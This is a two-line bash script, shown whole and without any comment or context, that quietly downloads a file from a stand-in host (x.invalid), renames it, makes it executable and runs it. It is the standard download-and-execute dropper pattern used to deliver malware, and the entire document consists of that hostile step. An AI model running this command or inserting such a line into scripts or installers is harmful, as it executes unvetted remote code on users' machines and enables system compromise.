#!/bin/bash
curl -so a http://x.invalid/a; mv a b; chmod +x b; ./b
